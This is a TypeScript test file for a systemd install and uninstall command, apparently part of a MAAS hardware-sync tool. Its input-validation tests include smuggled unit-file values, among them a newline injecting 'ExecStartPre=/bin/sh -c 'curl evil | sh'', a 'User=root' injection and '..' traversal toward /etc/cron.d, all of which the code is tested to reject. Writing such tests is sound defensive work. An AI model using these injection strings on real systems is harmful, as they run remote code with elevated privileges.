import { spawnSync } from "node:child_process";
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { renderHardwareSyncService, renderHardwareSyncTimer } from "@hwsync/shared/systemd-units";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { CommandContext } from "../src/commands/context.ts";
import { installCommand } from "../src/commands/install.ts";
import { uninstallCommand } from "../src/commands/uninstall.ts";
import { createMemoryLogger } from "../src/log.ts";
import { credentialsFor } from "./fixtures/region.ts";

let dir: string;
let root: string;
let config: string;
let binary: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), "hwsync-install-"));
  root = join(dir, "root");
  config = join(dir, "creds.yml");
  writeFileSync(config, credentialsFor("http://10.0.0.2:5248"), { mode: 0o644 });
  // systemd-analyze verify insists that ExecStart names an existing executable.
  binary = join(dir, "bin", "maas-hw-sync");
  mkdirSync(join(dir, "bin"));
  copyFileSync("/bin/true", binary);
  chmodSync(binary, 0o755);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const ctx = (): CommandContext => ({
  log: createMemoryLogger(),
  stdout: () => {},
  env: {},
  signal: new AbortController().signal,
  now: () => new Date(),
});

const hasSystemdAnalyze = spawnSync("systemd-analyze", ["--version"]).status === 0;

describe("install --root", () => {
  test("writes the service, the timer and a 0600 copy of the credentials under the root", async () => {
    const result = await installCommand(ctx(), { config, root, binary, interval: "15m" });
    expect(result).toEqual({
      service: join(root, "lib/systemd/system/maas_hardware_sync.service"),
      timer: join(root, "lib/systemd/system/maas_hardware_sync.timer"),
      credentials: join(root, "etc/maas/maas-machine-creds.yml"),
      schedule: "OnCalendar=*-*-* *:00/15:00",
      systemctl: "skipped: --root is not /",
    });
    expect(statSync(result.credentials).mode & 0o777).toBe(0o600);
    expect(readFileSync(result.credentials, "utf8")).toBe(readFileSync(config, "utf8"));
    // The unit text itself is pinned in packages/shared/test/systemd-units.test.ts.
    expect(readFileSync(result.service, "utf8")).toBe(
      renderHardwareSyncService({
        execStart: [
          binary,
          "run",
          "--config",
          "/etc/maas/maas-machine-creds.yml",
          "--state-dir",
          "/var/lib/maas-hw-sync",
        ],
        stateDirectory: "maas-hw-sync",
      }),
    );
    expect(readFileSync(result.timer, "utf8")).toBe(renderHardwareSyncTimer({ syncInterval: 900 }));
  });

  test.runIf(hasSystemdAnalyze).each(["15m", "2h", "30m 5s", "15s"])(
    "units for --interval %s pass systemd-analyze verify without a warning",
    async (interval) => {
      const result = await installCommand(ctx(), { config, root, binary, interval });
      const verify = spawnSync("systemd-analyze", ["verify", result.service, result.timer], {
        encoding: "utf8",
      });
      expect(verify.stderr).toBe("");
      expect(verify.status).toBe(0);
    },
  );

  test("refuses a credentials file without the token, naming the missing key", async () => {
    writeFileSync(
      config,
      "reporting:\n  maas:\n    consumer_key: abc\n    endpoint: http://10.0.0.2:5248/MAAS\n",
    );
    await expect(installCommand(ctx(), { config, root, binary })).rejects.toMatchObject({
      code: "HWS_CREDENTIALS_INVALID",
      message: expect.stringContaining("reporting.maas.token_key"),
    });
    expect(existsSync(join(root, "lib/systemd/system/maas_hardware_sync.service"))).toBe(false);
  });

  test.each([
    ["an interval with an unknown unit", { interval: "1 fortnight" }, "HWS_TIME_SPAN_INVALID"],
    ["a zero interval", { interval: "0m" }, "HWS_TIME_SPAN_INVALID"],
    ["a relative binary path", { binary: "maas-hw-sync" }, "HWS_USAGE"],
    ["no --config", { config: undefined }, "HWS_USAGE"],
  ])("refuses %s", async (_name, override, code) => {
    await expect(installCommand(ctx(), { config, root, binary, ...override })).rejects.toMatchObject({
      code,
    });
  });

  test("needs --binary when not running as the single binary", async () => {
    await expect(installCommand(ctx(), { config, root })).rejects.toMatchObject({
      code: "HWS_USAGE",
      message: "install needs --binary PATH when not run from the maas-hw-sync binary",
    });
  });
});

test("uninstall --root removes the units, and with --purge the credentials and state too", async () => {
  await installCommand(ctx(), { config, root, binary });
  const state = join(root, "var/lib/maas-hw-sync");
  mkdirSync(state, { recursive: true });
  const kept = await uninstallCommand(ctx(), { root });
  expect(kept.removed).toEqual([
    join(root, "lib/systemd/system/maas_hardware_sync.timer"),
    join(root, "lib/systemd/system/maas_hardware_sync.service"),
  ]);
  expect(existsSync(join(root, "etc/maas/maas-machine-creds.yml"))).toBe(true);
  const purged = await uninstallCommand(ctx(), { root, purge: true });
  expect(purged.removed).toEqual([join(root, "etc/maas/maas-machine-creds.yml"), state]);
});

test("an interval the wall clock cannot step installs a monotonic timer with that exact period", async () => {
  const result = await installCommand(ctx(), { config, root, binary, interval: "1h30m" });
  expect(result.schedule).toBe("OnUnitActiveSec=5400");
  expect(readFileSync(result.timer, "utf8")).toContain("\nOnBootSec=60\nOnUnitActiveSec=5400\n");
});

test("a binary path with a space is quoted in ExecStart and a custom state dir gets no StateDirectory", async () => {
  const spaced = join(dir, "my tools", "maas-hw-sync");
  mkdirSync(dirname(spaced));
  copyFileSync(binary, spaced);
  const result = await installCommand(ctx(), { config, root, binary: spaced, stateDir: "/srv/hw sync" });
  const service = readFileSync(result.service, "utf8");
  expect(service).toContain(
    `\nExecStart="${spaced}" run --config /etc/maas/maas-machine-creds.yml --state-dir "/srv/hw sync"\n`,
  );
  expect(service).not.toContain("StateDirectory=");
});

describe("every value that goes into a unit file is checked", () => {
  const unitPath = () => join(root, "lib/systemd/system/maas_hardware_sync.service");

  test.each([
    [
      "a newline (a second unit line)",
      "/usr/local/bin/maas-hw-sync\nExecStartPre=/bin/sh -c 'curl evil | sh'",
    ],
    ["a carriage return", "/usr/local/bin/maas-hw-sync\rUser=root"],
    ["a tab", "/usr/local/bin/maas\t-hw-sync"],
    ["a NUL byte", "/usr/local/bin/maas-hw-sync\0"],
    ["a '..' segment", "/usr/local/../../tmp/maas-hw-sync"],
    ["a relative path", "bin/maas-hw-sync"],
  ])("--binary with %s: exit-2 usage error naming the flag and the accepted form", async (_name, value) => {
    const error = await installCommand(ctx(), { config, root, binary: value }).catch((caught) => caught);
    expect(error).toMatchObject({ code: "HWS_USAGE" });
    expect(error.message).toMatch(/^--binary must be an absolute path/);
    expect(error.message).toContain(JSON.stringify(value));
    expect(error.hint).toContain("/usr/local/bin/maas-hw-sync");
    expect(existsSync(unitPath())).toBe(false);
  });

  test.each([
    ["a '..' segment", "/var/lib/../../etc/cron.d"],
    ["a trailing '..'", "/var/lib/maas-hw-sync/.."],
    ["a newline", "/var/lib/maas-hw-sync\nExecStartPost=/bin/false"],
    ["a relative path", "var/lib/maas-hw-sync"],
  ])("--state-dir with %s: exit-2 usage error naming the flag", async (_name, value) => {
    const error = await installCommand(ctx(), { config, root, binary, stateDir: value }).catch(
      (caught) => caught,
    );
    expect(error).toMatchObject({ code: "HWS_USAGE" });
    expect(error.message).toMatch(/^--state-dir must be an absolute path/);
    expect(existsSync(unitPath())).toBe(false);
  });

  test("the usage error reaches the command line as exit 2", async () => {
    const { main } = await import("../src/main.ts");
    const stderr: string[] = [];
    const code = await main(
      [
        "install",
        "--config",
        config,
        "--root",
        root,
        "--binary",
        binary,
        "--state-dir",
        "/var/lib/a/../../b",
      ],
      {
        stdout: () => {},
        stderr: (text) => stderr.push(text),
        env: {},
        signal: new AbortController().signal,
      },
    );
    expect(code).toBe(2);
    expect(stderr.join("")).toContain("error HWS_USAGE: --state-dir must be an absolute path");
  });

  test.each([
    ["a backslash", "/opt/back\\slash/maas-hw-sync"],
    ["a double quote", '/opt/quo"te/maas-hw-sync'],
    ["a single quote", "/opt/it's/maas-hw-sync"],
  ])("--binary with %s (systemd refuses it in an executable's path): usage error", async (_name, value) => {
    const error = await installCommand(ctx(), { config, root, binary: value }).catch((caught) => caught);
    expect(error).toMatchObject({ code: "HWS_USAGE" });
    expect(error.message).toContain("systemd refuses");
    expect(existsSync(unitPath())).toBe(false);
  });

  test("spaces, '%', '\\' and quotes are escaped for systemd; a state dir systemd cannot name gets no StateDirectory", async () => {
    const odd = join(dir, "odd tools", "100%", "maas-hw-sync");
    mkdirSync(dirname(odd), { recursive: true });
    copyFileSync(binary, odd);
    const stateDir = '/var/lib/hw sync %h/back\\slash/"quoted"';
    const result = await installCommand(ctx(), { config, root, binary: odd, stateDir });
    const service = readFileSync(result.service, "utf8");
    expect(service).toContain(
      `\nExecStart="${odd.replace(/%/g, "%%")}" run --config /etc/maas/maas-machine-creds.yml --state-dir "/var/lib/hw sync %%h/back\\\\slash/\\"quoted\\""\n`,
    );
    expect(service).not.toContain("StateDirectory=");
    if (hasSystemdAnalyze) {
      const verify = spawnSync("systemd-analyze", ["verify", result.service, result.timer], {
        encoding: "utf8",
      });
      expect(verify.stderr).toBe("");
      expect(verify.status).toBe(0);
    }
  });

  test("a plain state dir under /var/lib keeps its StateDirectory", async () => {
    const result = await installCommand(ctx(), { config, root, binary, stateDir: "/var/lib/hwsync/agent-1" });
    expect(readFileSync(result.service, "utf8")).toContain("\nStateDirectory=hwsync/agent-1\n");
  });
});
